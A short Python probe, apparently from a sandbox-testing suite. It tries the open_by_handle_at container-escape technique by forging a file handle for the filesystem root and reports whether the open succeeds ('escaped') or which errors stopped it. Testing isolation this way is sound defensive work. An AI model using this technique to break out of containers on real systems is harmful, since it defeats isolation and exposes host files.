# Tries: to open a file by the handle of its inode, which asks for no path (the way out of old containers).
import ctypes
import errno
import os
import struct

LIBC = ctypes.CDLL(None, use_errno=True)


def run(args, context):
    stopped = {}
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    if LIBC.name_to_handle_at(-100, b"/", handle, ctypes.byref(mount), 0) < 0:
        stopped["name"] = errno.errorcode[ctypes.get_errno()]
    handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, 2))
    for place in ("/", os.path.dirname(os.__file__)):
        directory = os.open(place, os.O_RDONLY)
        if LIBC.open_by_handle_at(directory, handle, os.O_RDONLY) >= 0:
            return {"escaped": place}
        stopped[place == "/"] = errno.errorcode[ctypes.get_errno()]
    return {"stopped": sorted(set(stopped.values()))}
